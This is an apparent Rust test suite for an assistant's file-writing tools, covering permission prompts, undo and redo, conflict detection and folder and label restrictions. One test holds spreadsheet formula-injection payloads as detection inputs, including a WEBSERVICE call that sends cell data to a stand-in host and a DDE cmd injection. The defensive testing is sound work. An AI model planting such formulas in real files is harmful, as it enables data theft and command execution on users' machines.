//! Write, Edit and Delete: nothing is lost, everything has a way back, and a person is asked with what would change.

use std::fs;
use std::path::PathBuf;
use std::sync::Arc;

use deskhand_core::rules::{AccessPolicies, Rules};
use deskhand_core::tool::{Ask, ToolFailure, ToolRequest, ToolResult};
use deskhand_documents::FileAccess;
use deskhand_protocol::change::ChangeSet;
use deskhand_protocol::event::ToolOutcome;
use deskhand_protocol::permission::{AskReason, BeforeAfter};
use deskhand_protocol::{CallId, ErrorCode, TurnId};
use deskhand_workspace::{Access, AllowedFolder};
use pretty_assertions::assert_eq;
use serde_json::{Value, json};

use crate::stage::Stage;

const BOOK: &str = "calamine__date_1904.xlsx";
const NOTES: &str = "# Plan\nRevenue grows by 4%.\nCosts stay.\n";

/// A stage whose folder `work` is attached and holds `notes.md`.
struct Desk {
    stage: Stage,
    calls: u32,
}

impl Desk {
    async fn new() -> Self {
        let stage = Stage::with(BOOK);
        fs::write(stage.home.path().join("work/notes.md"), NOTES).unwrap();
        Self::on(stage).await
    }

    async fn on(stage: Stage) -> Self {
        stage
            .attach_folder(&stage.home.path().join("work"))
            .await
            .unwrap();
        Self { stage, calls: 0 }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.stage
            .home
            .path()
            .canonicalize()
            .unwrap()
            .join("work")
            .join(name)
    }

    fn holds(&self, name: &str) -> Option<String> {
        fs::read_to_string(self.path(name)).ok()
    }

    fn request(&mut self, tool: &str, name: &str, mut input: Value) -> ToolRequest {
        self.calls += 1;
        input["path"] = json!(self.path(name));
        ToolRequest {
            session: self.stage.session.clone(),
            turn: TurnId::from_text("t"),
            call: CallId::from_text(format!("w{}", self.calls)),
            name: tool.to_owned(),
            input,
            folder: None,
            command: None,
        }
    }

    async fn looks(
        &mut self,
        tool: &str,
        name: &str,
        input: Value,
    ) -> Result<(ToolRequest, Option<Ask>), ToolFailure> {
        let request = self.request(tool, name, input);
        let prepared = self.stage.prepare(&request).await?;
        let file = prepared.file.expect("a file");
        assert_eq!(file.path, self.path(name).display().to_string());
        assert!(file.folder.is_some_and(|folder| folder.ends_with("work")));
        Ok((request, prepared.ask))
    }

    /// Does a call that somebody allows.
    async fn does(&mut self, tool: &str, name: &str, input: Value) -> ToolResult {
        let (request, _) = self.looks(tool, name, input).await.unwrap();
        self.stage.run(&request).await
    }

    async fn changes(&mut self, tool: &str, name: &str, input: Value) -> ChangeSet {
        let result = self.does(tool, name, input).await;
        result.change_set.ok_or(result.output).unwrap()
    }

    async fn reads(&mut self, name: &str) -> String {
        self.does("Read", name, json!({})).await.output
    }

    async fn redo(&self, change: &ChangeSet) {
        let stage = &self.stage;
        stage
            .tools
            .redo(&stage.session, &change.id, &stage.notes)
            .await
            .unwrap();
    }
}

fn row(line: u32, now: &str, after: &str) -> BeforeAfter {
    BeforeAfter {
        cell: line.to_string(),
        label: None,
        now: now.to_owned(),
        after: after.to_owned(),
        formula: false,
    }
}

#[tokio::test]
async fn a_new_file_is_made_with_the_folders_above_it_and_undo_takes_all_of_them_away() {
    let mut desk = Desk::new().await;
    let text = json!({ "text": "one\ntwo\n" });
    let (request, ask) = desk.looks("Write", "2026/q1/new.txt", text).await.unwrap();
    let ask = ask.expect("a question");
    assert_eq!(
        (ask.reason, ask.question.as_str()),
        (AskReason::Creates, "Make the new file new.txt, 2 lines?")
    );
    assert_eq!(ask.rows, [row(1, "", "one"), row(2, "", "two")]);
    assert_eq!(
        desk.holds("2026/q1/new.txt"),
        None,
        "nothing is written before the answer"
    );
    let change = desk.stage.run(&request).await.change_set.unwrap();
    assert_eq!(desk.holds("2026/q1/new.txt").as_deref(), Some("one\ntwo\n"));
    desk.stage.undo(&change).await.unwrap();
    assert!(!desk.path("2026").exists());
    desk.redo(&change).await;
    assert_eq!(desk.holds("2026/q1/new.txt").as_deref(), Some("one\ntwo\n"));
}

#[tokio::test]
async fn an_edit_shows_the_lines_that_change_and_undo_brings_every_byte_back() {
    let mut desk = Desk::new().await;
    let original = b"\xEF\xBB\xBFa\r\nb \xC3\xA9\r\nc\r\n";
    fs::write(desk.path("win.txt"), original).unwrap();
    let edit = json!({ "find": "b é", "replace": "b è\nb2" });
    let (request, ask) = desk.looks("Edit", "win.txt", edit).await.unwrap();
    let ask = ask.expect("a question");
    assert_eq!(
        (ask.reason, ask.question.as_str()),
        (AskReason::Edits, "Change 2 lines of win.txt?")
    );
    assert_eq!(ask.rows, [row(2, "b é", "b è"), row(3, "", "b2")]);
    let change = desk.stage.run(&request).await.change_set.unwrap();
    let edited = b"\xEF\xBB\xBFa\r\nb \xC3\xA8\r\nb2\r\nc\r\n";
    assert_eq!(fs::read(desk.path("win.txt")).unwrap(), edited);
    desk.stage.undo(&change).await.unwrap();
    assert_eq!(fs::read(desk.path("win.txt")).unwrap(), original);
    desk.redo(&change).await;
    assert_eq!(fs::read(desk.path("win.txt")).unwrap(), edited);
}

#[tokio::test]
async fn a_file_that_is_written_anew_keeps_its_encoding_and_line_ends() {
    let mut desk = Desk::new().await;
    let utf16 = |text: &str| {
        let units = text.encode_utf16().flat_map(u16::to_le_bytes);
        [0xFF, 0xFE].into_iter().chain(units).collect::<Vec<u8>>()
    };
    fs::write(desk.path("wide.txt"), utf16("alt\r\n")).unwrap();
    desk.changes("Write", "wide.txt", json!({ "text": "neu\nzwei\n" }))
        .await;
    assert_eq!(fs::read(desk.path("wide.txt")).unwrap(), utf16("neu\r\nzwei\r\n"));
}

#[tokio::test]
async fn a_deleted_file_is_in_the_journal_and_comes_back_by_undo() {
    let mut desk = Desk::new().await;
    let bytes: Vec<u8> = (0..=255).cycle().take(70_000).collect();
    fs::write(desk.path("picture.bin"), &bytes).unwrap();
    let (request, ask) = desk.looks("Delete", "picture.bin", json!({})).await.unwrap();
    let ask = ask.expect("a question");
    assert_eq!(
        (ask.reason, ask.question.as_str()),
        (AskReason::Removes, "Delete picture.bin, 70.0 KB?")
    );
    let change = desk.stage.run(&request).await.change_set.unwrap();
    assert!(!desk.path("picture.bin").exists());
    let listed = desk.stage.tools.changed_files(&desk.stage.session).await.unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(
        (listed[0].title.as_str(), listed[0].undone),
        ("picture.bin moved to the journal", false)
    );
    desk.stage.undo(&change).await.unwrap();
    assert_eq!(fs::read(desk.path("picture.bin")).unwrap(), bytes);
}

#[tokio::test]
async fn what_the_session_made_itself_is_its_own_and_what_it_found_stays_somebodys() {
    let mut desk = Desk::new().await;
    desk.changes("Write", "own.txt", json!({ "text": "1\n" })).await;
    let (_, ask) = desk
        .looks("Edit", "own.txt", json!({ "find": "1", "replace": "2" }))
        .await
        .unwrap();
    assert_eq!(ask, None, "nobody's work would be lost");
    let (_, ask) = desk.looks("Delete", "own.txt", json!({})).await.unwrap();
    assert!(ask.is_some(), "deleting always asks");
    fs::write(desk.path("own.txt"), "a person's\n").unwrap();
    let (_, ask) = desk
        .looks(
            "Edit",
            "own.txt",
            json!({ "find": "a", "replace": "b", "all": true }),
        )
        .await
        .unwrap();
    assert!(ask.is_some(), "a person wrote in it since");
    desk.changes("Edit", "notes.md", json!({ "find": "4%", "replace": "5%" }))
        .await;
    let (_, ask) = desk
        .looks("Edit", "notes.md", json!({ "find": "stay", "replace": "fall" }))
        .await
        .unwrap();
    assert!(ask.is_some(), "an edit makes nobody the owner");
}

#[tokio::test]
async fn what_somebody_changed_since_it_was_read_is_not_overwritten_but_shown() {
    let mut desk = Desk::new().await;
    desk.reads("notes.md").await;
    fs::write(desk.path("notes.md"), NOTES.replace("4%", "7%")).unwrap();
    let whole = json!({ "text": NOTES.replace("Costs stay", "Costs fall") });
    let refused = desk.looks("Write", "notes.md", whole.clone()).await.unwrap_err();
    assert_eq!(refused.title, "Changed by somebody else");
    for line in [
        "-Revenue grows by 4%.",
        "+Revenue grows by 7%.",
        "<document-data",
        "Merge",
    ] {
        assert!(refused.output.contains(line), "{}", refused.output);
    }
    // An edit puts its own part into what is there now.
    desk.changes(
        "Edit",
        "notes.md",
        json!({ "find": "Costs stay", "replace": "Costs fall" }),
    )
    .await;
    let merged = NOTES.replace("4%", "7%").replace("stay", "fall");
    assert_eq!(desk.holds("notes.md").unwrap(), merged);
    // Whoever has seen the difference may write all of it, when a person allows it.
    let (_, ask) = desk.looks("Write", "notes.md", whole).await.unwrap();
    assert_eq!(ask.expect("a question").reason, AskReason::Overwrites);
}

#[tokio::test]
async fn what_somebody_changed_while_a_person_was_asked_is_left_alone() {
    let mut desk = Desk::new().await;
    let edit = json!({ "find": "4%", "replace": "5%" });
    for (tool, input) in [
        ("Edit", edit),
        ("Delete", json!({})),
        ("Write", json!({ "text": "mine" })),
    ] {
        fs::write(desk.path("notes.md"), NOTES).unwrap();
        desk.reads("notes.md").await;
        let (request, _) = desk.looks(tool, "notes.md", input).await.unwrap();
        let theirs = NOTES.replace("stay", "rise");
        fs::write(desk.path("notes.md"), &theirs).unwrap();
        let result = desk.stage.run(&request).await;
        assert_eq!(
            (result.outcome, result.title.as_str()),
            (ToolOutcome::Failed, "Changed by somebody else"),
            "{tool}"
        );
        assert_eq!(desk.holds("notes.md").unwrap(), theirs, "{tool}");
    }
}

#[tokio::test]
async fn a_file_that_the_journal_cannot_keep_is_not_touched() {
    let mut desk = Desk::new().await;
    for left in 0..3 {
        let edit = json!({ "find": "4%", "replace": "5%" });
        let (request, _) = desk.looks("Edit", "notes.md", edit).await.unwrap();
        *desk.stage.journal.left.lock().unwrap() = Some(left);
        let result = desk.stage.run(&request).await;
        *desk.stage.journal.left.lock().unwrap() = None;
        assert_eq!(result.outcome, ToolOutcome::Failed, "{left} writes");
        assert_eq!(desk.holds("notes.md").unwrap(), NOTES, "{left} writes");
    }
}

#[tokio::test]
async fn a_call_that_a_crash_cut_is_ended_once_wherever_it_was() {
    for written in [false, true] {
        let mut desk = Desk::new().await;
        let edit = json!({ "find": "4%", "replace": "5%" });
        let (request, _) = desk.looks("Edit", "notes.md", edit).await.unwrap();
        desk.stage.run(&request).await;
        // As if the service had been killed before the outcome was written down, or before the file was.
        desk.stage.journal.edit("write:", |record| {
            record["stage"] = json!("Intended");
            record["result"] = json!(null);
        });
        if !written {
            fs::write(desk.path("notes.md"), NOTES).unwrap();
        }
        desk.stage = desk.stage.started_again().await;
        assert_eq!(
            desk.stage.prepare(&request).await.unwrap().ask,
            None,
            "it was answered before"
        );
        let result = desk.stage.run(&request).await;
        assert_eq!(result.outcome, ToolOutcome::Done, "{}", result.output);
        assert_eq!(desk.holds("notes.md").unwrap(), NOTES.replace("4%", "5%"));
        desk.stage.undo(&result.change_set.unwrap()).await.unwrap();
        assert_eq!(desk.holds("notes.md").unwrap(), NOTES);
    }
}

#[tokio::test]
async fn undo_leaves_what_a_person_wrote_since_and_keeps_it_when_told_to_replace_it() {
    let mut desk = Desk::new().await;
    let change = desk
        .changes("Edit", "notes.md", json!({ "find": "4%", "replace": "5%" }))
        .await;
    fs::write(desk.path("notes.md"), "a person's\n").unwrap();
    let refused = desk.stage.undo(&change).await.unwrap_err();
    assert_eq!(refused.code, ErrorCode::UndoConflict);
    assert_eq!(desk.holds("notes.md").unwrap(), "a person's\n");
    let stage = &desk.stage;
    stage
        .tools
        .undo(&stage.session, &change.id, true, &stage.notes)
        .await
        .unwrap();
    assert_eq!(desk.holds("notes.md").unwrap(), NOTES);
    let kept = desk.stage.journal.blob_texts();
    assert!(kept.iter().any(|text| text == "a person's\n"), "{kept:?}");
}

#[tokio::test]
async fn the_same_content_is_kept_once() {
    let mut desk = Desk::new().await;
    for _ in 0..3 {
        let change = desk
            .changes("Edit", "notes.md", json!({ "find": "4%", "replace": "5%" }))
            .await;
        desk.stage.undo(&change).await.unwrap();
    }
    assert_eq!(desk.stage.journal.blob_texts().len(), 2);
}

#[tokio::test]
async fn what_is_no_text_file_or_not_ours_to_write_is_refused_with_a_reason() {
    let mut desk = Desk::new().await;
    fs::write(desk.path("noise.dat"), [0_u8, 159, 146, 150].repeat(50)).unwrap();
    fs::write(desk.path("open.txt"), "x").unwrap();
    fs::write(desk.path(".~lock.open.txt#"), ",Ann,host,01.03.2026 10:00,file;").unwrap();
    let edit = json!({ "find": "a", "replace": "b" });
    for (tool, name, input, title) in [
        ("Write", "book.xlsx", json!({ "text": "x" }), "Not a text file"),
        ("Edit", "book.xlsx", edit.clone(), "Not a text file"),
        ("Write", "deck.pptx", json!({ "text": "x" }), "Not a text file"),
        ("Edit", "noise.dat", edit.clone(), "Not written"),
        ("Write", "noise.dat", json!({ "text": "x" }), "Not written"),
        ("Edit", "gone.txt", edit.clone(), "Not found"),
        ("Delete", "gone.txt", json!({}), "Not found"),
        (
            "Edit",
            "notes.md",
            json!({ "find": "zz", "replace": "b" }),
            "Not written",
        ),
        (
            "Write",
            "../beside.txt",
            json!({ "text": "x" }),
            "Not in an attached folder",
        ),
        (
            "Write",
            "open.txt",
            json!({ "text": "x" }),
            "Open in another program",
        ),
        ("Delete", "open.txt", json!({}), "Open in another program"),
        (
            "Write",
            "notes.md",
            json!({ "text": 7 }),
            "The call was not understood",
        ),
    ] {
        let request = desk.request(tool, name, input);
        let refused = desk.stage.prepare(&request).await.unwrap_err();
        assert_eq!(refused.title, title, "{tool} {name}: {}", refused.output);
    }
    assert!(!desk.stage.home.path().join("beside.txt").exists());
}

#[tokio::test]
async fn nothing_is_written_where_a_folder_may_only_be_read() {
    let stage = Stage::with(BOOK);
    fs::write(stage.home.path().join("work/notes.md"), NOTES).unwrap();
    let allowed = vec![AllowedFolder {
        path: stage.home.path().canonicalize().unwrap(),
        access: Access::ReadOnly,
    }];
    let mut desk = Desk::on(stage.allowing(allowed)).await;
    for (tool, name, input) in [
        ("Write", "new.txt", json!({ "text": "x" })),
        ("Edit", "notes.md", json!({ "find": "4%", "replace": "5%" })),
        ("Delete", "notes.md", json!({})),
    ] {
        let refused = desk.looks(tool, name, input).await.unwrap_err();
        assert_eq!(refused.title, "Read-only", "{tool}");
    }
    assert_eq!(desk.holds("notes.md").unwrap(), NOTES);
}

#[tokio::test]
async fn files_that_run_hidden_ones_and_formulas_in_tables_are_always_asked_about() {
    let mut desk = Desk::new().await;
    for (name, text, words) in [
        ("start.ps1", "Get-Date\n", "can run as a program"),
        ("a.URL", "[InternetShortcut]\n", "can run as a program"),
        (".git/hooks/pre-commit", "#!/bin/sh\n", "is hidden"),
        (
            "rates.csv",
            "a,b\n1,=WEBSERVICE(\"https://x.example/?\"&A1)\n",
            "WEBSERVICE",
        ),
        (
            "rates.tsv",
            "a\tb\n1\t\"=HYPERLINK(\"\"https://x.example/\"\",\"\"go\"\")\"\n",
            "line 2",
        ),
        ("cmd.csv", "1;=cmd|' /C calc'!A0\n", "line 1"),
    ] {
        let (_, ask) = desk.looks("Write", name, json!({ "text": text })).await.unwrap();
        let ask = ask.expect("a question");
        assert_eq!(ask.reason, AskReason::ReachesOutside, "{name}");
        let told = format!("{:?}", ask.risks);
        assert!(told.contains(words), "{name}: {told}");
    }
    let (_, ask) = desk
        .looks("Write", "sums.csv", json!({ "text": "a,b\n1,-2\n-3,=A1+B1\n" }))
        .await
        .unwrap();
    assert_eq!(ask.expect("a question").reason, AskReason::Creates);
}

#[tokio::test]
async fn a_folder_that_was_taken_out_of_the_session_is_closed_at_once() {
    let mut desk = Desk::new().await;
    let (request, _) = desk
        .looks("Edit", "notes.md", json!({ "find": "4%", "replace": "5%" }))
        .await
        .unwrap();
    let work = desk.path("").display().to_string();
    let work = work.trim_end_matches('/');
    let documents = desk
        .stage
        .tools
        .detach_folder(&desk.stage.session, work)
        .await
        .unwrap();
    assert_eq!(documents.len(), 1, "the workbook goes with its folder");
    let result = desk.stage.run(&request).await;
    assert_eq!(result.outcome, ToolOutcome::Failed, "{}", result.output);
    assert_eq!(desk.holds("notes.md").unwrap(), NOTES);
    desk.stage = desk.stage.started_again().await;
    let looked = desk.request("Read", "notes.md", json!({}));
    assert_eq!(desk.stage.run(&looked).await.title, "No folder is attached");
}

#[tokio::test]
async fn a_person_brings_a_file_back_also_after_its_folder_was_taken_out() {
    let mut desk = Desk::new().await;
    let change = desk.changes("Delete", "notes.md", json!({})).await;
    let work = desk.path("").display().to_string();
    let session = desk.stage.session.clone();
    let work = work.trim_end_matches('/');
    desk.stage.tools.detach_folder(&session, work).await.unwrap();
    desk.stage.undo(&change).await.unwrap();
    assert_eq!(desk.holds("notes.md").unwrap(), NOTES);
}

#[tokio::test]
async fn what_a_rule_asks_about_stays_out_of_searches() {
    let mut desk = Desk::new().await;
    fs::write(desk.path("prod.env"), "SECRET=4%\n").unwrap();
    let rules = Rules::asking(&json!({ "Read(**/*.env)": "ask" })).unwrap();
    desk.stage.tools = desk
        .stage
        .tools
        .clone()
        .ruled_by(Arc::new(rules), FileAccess::default());
    let request = desk.request("Grep", "", json!({ "pattern": "4%" }));
    let request = ToolRequest {
        input: json!({ "pattern": "4%" }),
        ..request
    };
    let found = desk.stage.run(&request).await;
    assert!(
        found.output.contains("Revenue") && !found.output.contains("SECRET"),
        "{}",
        found.output
    );
    assert!(
        found.output.contains("1 file with matches left out"),
        "{}",
        found.output
    );
}

#[tokio::test]
async fn a_document_whose_label_is_denied_is_not_read() {
    let stage = Stage::with(BOOK);
    let book = stage.attach(&stage.book()).await.unwrap();
    let request = stage.request("workbook_info", &book, json!({}));
    assert!(stage.prepare(&request).await.is_ok());
    let mut stage = stage;
    let access = FileAccess {
        labels: AccessPolicies::deny_all(),
        only_in_folders: false,
        home: None,
    };
    stage.tools = stage.tools.clone().ruled_by(Arc::default(), access);
    let refused = stage.prepare(&request).await.unwrap_err();
    assert!(refused.output.contains("sensitivity label"), "{}", refused.output);
}

#[tokio::test]
async fn a_file_outside_of_attached_folders_is_refused_where_the_organisation_wants_it_so() {
    let mut stage = Stage::with(BOOK);
    let access = FileAccess {
        labels: AccessPolicies::default(),
        only_in_folders: true,
        home: None,
    };
    stage.tools = stage.tools.clone().ruled_by(Arc::default(), access);
    let refused = stage.attach(&stage.book()).await.unwrap_err();
    assert_eq!(refused.code, ErrorCode::FolderRefused);
    stage
        .attach_folder(&stage.home.path().join("work"))
        .await
        .unwrap();
    stage.attach(&stage.book()).await.unwrap();
}
